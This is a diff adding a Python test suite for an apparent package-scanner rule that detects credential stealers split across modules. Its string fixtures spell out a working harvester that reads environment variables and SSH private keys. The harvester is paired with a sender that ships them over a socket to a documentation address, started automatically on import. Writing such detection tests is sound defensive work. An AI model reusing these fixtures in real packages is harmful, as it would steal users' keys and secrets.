@@ -1,0 +1,109 @@
+"""Stealers split across modules, on small synthetic sdists (reserved example hosts and
+documentation addresses; nothing is ever run), and SDKs whose modules merely coexist."""
+
+from __future__ import annotations
+
+from tests.analysis.builders import run_rule, sdist
+from threatfeed.analysis import Engine
+from threatfeed.analysis.rules.cross_module import cross_module_exfiltration_rule
+
+COLLECT = (
+    "import glob, json, os\n\n"
+    "def gather():\n"
+    "    found = {'env': json.dumps(dict(os.environ))}\n"
+    "    for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
+    "        found[path] = open(path).read()\n"
+    "    return found\n"
+)
+SEND = (
+    "import socket\n\n"
+    "def push(blob):\n"
+    "    s = socket.create_connection(('192.0.2.10', 8088))\n"
+    "    s.sendall(blob)\n"
+)
+WIRE = (
+    "import threading\n"
+    "from . import collect\n"
+    "from ..telemetry import client\n\n"
+    "def start():\n"
+    "    threading.Thread(target=lambda: client.push(str(collect.gather()).encode())).start()\n"
+)
+
+
+def _split(wire: str = WIRE) -> bytes:
+    return sdist(
+        {
+            "tidy_strings/__init__.py": "from ._internal import boot as _boot\n_boot.start()\n",
+            "tidy_strings/_internal/__init__.py": "",
+            "tidy_strings/_internal/boot.py": wire,
+            "tidy_strings/_internal/collect.py": COLLECT,
+            "tidy_strings/telemetry/__init__.py": "",
+            "tidy_strings/telemetry/client.py": SEND,
+        }
+    )
+
+
+def test_a_module_that_wires_a_harvester_to_a_sender_flags(engine: Engine) -> None:
+    archive = _split()
+    root = "tidy-strings-0.4.0/tidy_strings/"
+    assert run_rule(engine, cross_module_exfiltration_rule, archive) == [
+        {
+            "file": root + "_internal/boot.py",
+            "harvests_in": root + "_internal/collect.py",
+            "sends_in": root + "telemetry/client.py",
+        }
+    ]
+    assert engine.analyze(archive).flagged
+
+
+def test_absolute_self_imports_and_imported_functions_are_followed(engine: Engine) -> None:
+    wire = (
+        "from tidy_strings._internal.collect import gather\n"
+        "import tidy_strings.telemetry.client as out\n\n"
+        "def start():\n    out.push(repr(gather()).encode())\n"
+    )
+    evidence = run_rule(engine, cross_module_exfiltration_rule, _split(wire))
+    assert [item["file"].rpartition("/")[2] for item in evidence] == ["boot.py"]
+
+
+def test_a_module_that_imports_both_but_calls_neither_is_not_reported(engine: Engine) -> None:
+    wire = "from . import collect\nfrom ..telemetry import client\n\n__all__ = ['collect']\n"
+    assert run_rule(engine, cross_module_exfiltration_rule, _split(wire)) is None
+
+
+def test_an_sdk_reading_its_config_and_calling_its_service_is_not_reported(
+    engine: Engine,
+) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/__init__.py": "from .session import Session\n",
+            "tidy_strings/config.py": (
+                "import configparser, os\n\ndef load():\n"
+                "    parser = configparser.ConfigParser()\n"
+                "    parser.read(os.path.expanduser('~/.aws/credentials'))\n"
+                "    return parser\n"
+            ),
+            "tidy_strings/transport.py": (
+                "import requests\n\ndef call(url, **kw):\n    return requests.post(url, **kw)\n"
+            ),
+            "tidy_strings/session.py": (
+                "from . import config, transport\n\nclass Session:\n"
+                "    def get(self, url):\n"
+                "        return transport.call(url, auth=config.load()['default'])\n"
+            ),
+        }
+    )
+    assert run_rule(engine, cross_module_exfiltration_rule, archive) is None
+
+
+def test_a_harvester_that_sends_itself_is_left_to_the_per_file_rule(engine: Engine) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/__init__.py": (
+                "from . import collect, client\nclient.push(collect.gather())\n"
+            ),
+            "tidy_strings/collect.py": COLLECT + "\n" + SEND,
+            "tidy_strings/client.py": SEND,
+        }
+    )
+    assert run_rule(engine, cross_module_exfiltration_rule, archive) is None
